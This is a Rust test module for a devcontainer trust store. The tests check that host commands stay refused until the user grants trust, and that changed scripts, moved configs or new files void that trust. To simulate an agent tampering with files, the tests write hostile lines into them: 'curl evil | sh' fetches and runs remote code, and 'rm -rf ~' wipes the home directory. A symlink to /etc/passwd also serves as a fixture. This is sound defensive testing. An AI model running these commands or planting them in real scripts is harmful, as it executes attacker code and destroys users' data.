use super::*;
use crate::policy::classify::{Class, Finding};
use serde_json::json;

fn ws(dir: &Path, config: &str) -> WorkspaceInfo {
    let folder = dir.join("proj");
    WorkspaceInfo {
        local_workspace_folder: folder.clone(),
        config_file: folder.join(config),
        workspace_folder: "/workspaces/proj".into(),
        workspace_mount: None,
        devcontainer_id: "id".into(),
    }
}

fn needs(property: &str) -> Finding {
    Finding { class: Class::NeedsTrust, property: property.into(), detail: "x".into() }
}

fn setup() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("proj/.devcontainer")).unwrap();
    std::fs::write(dir.path().join("proj/.devcontainer/devcontainer.json"), "{}").unwrap();
    std::fs::write(dir.path().join("proj/.devcontainer/init.sh"), "echo hi\n").unwrap();
    std::fs::write(dir.path().join("proj/setup.sh"), "echo setup\n").unwrap();
    let store = dir.path().join("store");
    (dir, store)
}

fn config(command: &str) -> DevContainer {
    serde_json::from_value(json!({"image": "x", "initializeCommand": command})).unwrap()
}

#[test]
fn nothing_to_trust_needs_no_record_and_writes_none() {
    let (dir, store) = setup();
    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
    let fp = Fingerprint::of(&DevContainer::default(), &w, &[]).unwrap();
    require(&store, &w, &fp).unwrap();
    assert!(!store.exists());
}

#[test]
fn the_first_use_is_refused_until_the_user_trusts() {
    let (dir, store) = setup();
    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
    let fp = Fingerprint::of(&config("sh .devcontainer/init.sh"), &w, &[needs("initializeCommand")]).unwrap();
    let err = require(&store, &w, &fp).unwrap_err();
    assert!(matches!(err, PolicyError::Untrusted { first: true, .. }), "{err}");
    assert!(err.to_string().contains("`initializeCommand`") && err.to_string().contains("containai trust"), "{err}");
    trust(&store, &w, &fp).unwrap();
    require(&store, &w, &fp).unwrap();
}

#[test]
fn a_changed_script_the_host_command_runs_is_refused() {
    let (dir, store) = setup();
    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
    let cfg = config("sh .devcontainer/init.sh && ./setup.sh");
    let fp = Fingerprint::of(&cfg, &w, &[needs("initializeCommand")]).unwrap();
    assert!(fp.files.contains_key(".devcontainer/init.sh") && fp.files.contains_key("setup.sh"), "{:?}", fp.files);
    trust(&store, &w, &fp).unwrap();
    // The agent rewrites each in turn.
    for (file, text) in [("proj/.devcontainer/init.sh", "curl evil | sh\n"), ("proj/setup.sh", "rm -rf ~\n")] {
        let before = std::fs::read(dir.path().join(file)).unwrap();
        std::fs::write(dir.path().join(file), text).unwrap();
        let now = Fingerprint::of(&cfg, &w, &[needs("initializeCommand")]).unwrap();
        let err = require(&store, &w, &now).unwrap_err().to_string();
        assert!(err.contains("changed file") && err.contains(file.trim_start_matches("proj/")), "{err}");
        std::fs::write(dir.path().join(file), before).unwrap();
    }
    // A new file in the config folder (one init.sh could source) counts too; a link is recorded as a link.
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("proj/.devcontainer/lib.sh")).unwrap();
    let now = Fingerprint::of(&cfg, &w, &[needs("initializeCommand")]).unwrap();
    assert_eq!(now.files[".devcontainer/lib.sh"], "link:/etc/passwd");
    assert!(require(&store, &w, &now).unwrap_err().to_string().contains("new file `.devcontainer/lib.sh`"));
}

#[test]
fn trust_is_keyed_by_the_workspace_so_a_moved_config_is_refused() {
    let (dir, store) = setup();
    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
    let fp = Fingerprint::of(&DevContainer::default(), &w, &[needs("mounts[0]")]).unwrap();
    trust(&store, &w, &fp).unwrap();
    std::fs::write(dir.path().join("proj/.devcontainer.json"), "{}").unwrap();
    let moved = ws(dir.path(), ".devcontainer.json");
    let fp =
        Fingerprint::of(&DevContainer::default(), &moved, &[needs("mounts[0]"), needs("initializeCommand")]).unwrap();
    let err = require(&store, &moved, &fp).unwrap_err().to_string();
    assert!(err.contains("the config is now `.devcontainer.json`"), "{err}");
    assert!(err.contains("new: `initializeCommand`"), "{err}");
}

#[test]
fn the_store_is_outside_the_workspace_and_private() {
    use std::os::unix::fs::PermissionsExt;
    let (dir, store) = setup();
    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
    let fp = Fingerprint::of(&DevContainer::default(), &w, &[needs("x")]).unwrap();
    let path = trust(&store, &w, &fp).unwrap();
    assert!(!path.starts_with(&w.local_workspace_folder));
    assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(std::fs::metadata(&store).unwrap().permissions().mode() & 0o777, 0o700);
}

#[test]
fn containais_own_lockfile_write_is_followed_and_anyone_elses_is_not() {
    let (dir, store) = setup();
    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
    let cfg = config("sh .devcontainer/init.sh");
    let lock = dir.path().join("proj/.devcontainer/devcontainer-lock.json");
    trust(&store, &w, &Fingerprint::of(&cfg, &w, &[needs("initializeCommand")]).unwrap()).unwrap();
    let now = || Fingerprint::of(&cfg, &w, &[needs("initializeCommand")]).unwrap();
    // containai writes the lockfile: the record follows.
    let before = entry_of(&lock).unwrap();
    std::fs::write(&lock, r#"{"features": {}}"#).unwrap();
    follow_own_write(&store, &cfg, &w, &lock, before).unwrap();
    require(&store, &w, &now()).unwrap();
    // Someone else rewrites it, then containai writes it again: the record covered other bytes, so it stays
    // as the user trusted it, and the change is theirs to review.
    std::fs::write(&lock, "curl evil | sh\n").unwrap();
    let before = entry_of(&lock).unwrap();
    std::fs::write(&lock, r#"{"features": {"a": {}}}"#).unwrap();
    follow_own_write(&store, &cfg, &w, &lock, before).unwrap();
    let err = require(&store, &w, &now()).unwrap_err().to_string();
    assert!(err.contains("changed file `.devcontainer/devcontainer-lock.json`"), "{err}");
}

#[test]
fn a_lockfile_no_host_command_covers_is_not_recorded() {
    let (dir, store) = setup();
    let w = ws(dir.path(), ".devcontainer/devcontainer.json");
    let cfg: DevContainer =
        serde_json::from_value(json!({"image": "x", "mounts": ["type=bind,source=/x,target=/x"]})).unwrap();
    let fp = Fingerprint::of(&cfg, &w, &[needs("mounts[0]")]).unwrap();
    trust(&store, &w, &fp).unwrap();
    let lock = dir.path().join("proj/.devcontainer/devcontainer-lock.json");
    std::fs::write(&lock, r#"{"features": {}}"#).unwrap();
    follow_own_write(&store, &cfg, &w, &lock, None).unwrap();
    require(&store, &w, &Fingerprint::of(&cfg, &w, &[needs("mounts[0]")]).unwrap()).unwrap();
    assert!(!std::fs::read_to_string(record_path(&store, &w)).unwrap().contains("lock"));
}
